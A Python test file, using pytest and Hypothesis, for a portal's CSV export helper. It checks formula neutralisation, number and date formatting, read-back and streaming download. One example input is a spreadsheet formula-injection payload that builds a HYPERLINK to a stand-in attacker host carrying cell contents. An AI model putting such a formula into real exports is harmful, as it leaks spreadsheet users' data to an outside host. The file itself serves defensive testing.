"""Tables that leave the portal: no cell calculates, numbers stay numbers, the file can be read again."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from portal.shared.tables import BYTE_ORDER_MARK, cell, csv_file, csv_lines, csv_response

FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
TEXTS = st.text() | st.builds(str.__add__, st.sampled_from(FORMULAS), st.text())


def read(lines):
    return list(csv.reader(io.StringIO("".join(lines), newline=""), delimiter=";", strict=True))


@given(TEXTS)
@example('=HYPERLINK("https://angreifer.example/?"&A1)')
@example(" =1+1")
@example("\u00a0@SUM(1)")
def test_no_text_starts_like_a_formula(text):
    shown = cell(text)
    assert not shown.startswith(FORMULAS)
    assert not shown.lstrip().startswith(FORMULAS)
    assert shown in (text, f"'{text}")


@given(st.text(alphabet="abcÄß 0123.,;\"'"))
def test_harmless_text_stays_as_it_is(text):
    assert cell(text) == text


@given(st.integers())
def test_whole_numbers_stay_numbers(number):
    assert cell(number) == number
    assert read(csv_lines([], [[number]]))[1] == [str(number)]


@given(st.decimals(allow_nan=False, allow_infinity=False, places=3) | st.floats(allow_nan=False, allow_infinity=False))
def test_fractions_are_digits_with_a_decimal_comma(number):
    shown = cell(number)
    assert set(shown) <= set("-0123456789,")
    assert Decimal(shown.replace(",", ".")) == Decimal(str(number))


@given(st.lists(st.lists(TEXTS, min_size=1, max_size=4), max_size=5))
def test_the_file_can_be_read_again(rows):
    again = read(csv_lines(["Kopf"], rows))
    assert again == [["Kopf"], *([cell(text) for text in row] for row in rows)]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (None, ""),
        (-5, -5),
        (-1.5, "-1,5"),
        (1e-7, "0,0000001"),
        (Decimal("1234.50"), "1234,50"),
        (float("nan"), ""),
        (datetime.date(2026, 11, 23), "2026-11-23"),
        (datetime.datetime(2026, 11, 23, 9, 30, tzinfo=datetime.UTC), "2026-11-23 10:30:00"),
        (datetime.datetime(2026, 11, 23, 9, 30), "2026-11-23 09:30:00"),  # noqa: DTZ001 -- a naive time stays as it is.
        ("-5", "'-5"),
        ("", ""),
    ],
)
def test_a_cell_shows(value, shown):
    assert cell(value) == shown


def test_yes_and_no_are_words():
    assert not {cell(value) for value in (True, False)} & {True, False, "True", "False"}


def test_headings_are_cells_too():
    assert read(csv_lines(["=1+1"], [])) == [["'=1+1"]]


def test_the_file_begins_with_the_byte_order_mark():
    assert next(csv_file(["Größe"], [])) == BYTE_ORDER_MARK


def test_the_download_is_sent_row_by_row():
    asked = []

    def rows():
        for number in range(3):
            asked.append(number)
            yield [number]

    response = csv_response("Protokoll 2026", ["Zahl"], rows())
    assert response.streaming
    assert asked == []
    body = b"".join(response)
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.decode("utf-8-sig") == '"Zahl"\r\n0\r\n1\r\n2\r\n'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="protokoll-2026.csv"'
